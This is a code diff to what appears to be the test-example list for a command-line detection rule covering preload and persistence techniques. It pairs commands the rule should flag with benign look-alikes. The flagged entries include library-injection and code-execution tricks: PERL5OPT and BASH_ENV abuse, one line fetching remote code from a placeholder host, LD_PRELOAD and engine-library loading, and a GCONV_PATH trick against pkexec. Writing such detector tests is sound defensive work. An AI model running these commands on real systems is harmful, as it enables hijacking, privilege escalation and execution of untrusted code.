@@ -74,6 +74,11 @@ export const PERSISTENCE_EXAMPLES: RuleExamples = {
   },
   'persistence.preload': {
     fires: [
+      "PERL5OPT='-Mbase;print(`id`)' perl x",
+      'BASH_ENV=<(curl -s x.example) bash -c true',
+      'openssl req -engine ./lib.so',
+      'ssh-keygen -D ./lib.so',
+
       'enable -f /tmp/x.so x',
       'export LD_PRELOAD=/srv/x/hook.so',
       'LD_PRELOAD=/tmp/a.so ls',
@@ -89,6 +94,11 @@ export const PERSISTENCE_EXAMPLES: RuleExamples = {
       'GCONV_PATH=./tmp/x sudo pkexec',
     ],
     silent: [
+      'PERL5OPT=-Mstrict perl x',
+      'openssl req -engine pkcs11',
+      'ssh-keygen -D /usr/lib/opensc-pkcs11.so',
+      'ssh-add -s /usr/lib/opensc-pkcs11.so',
+
       'enable -f /usr/lib/bash/sleep sleep',
       'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server',
       'export LD_LIBRARY_PATH=/usr/local/lib',
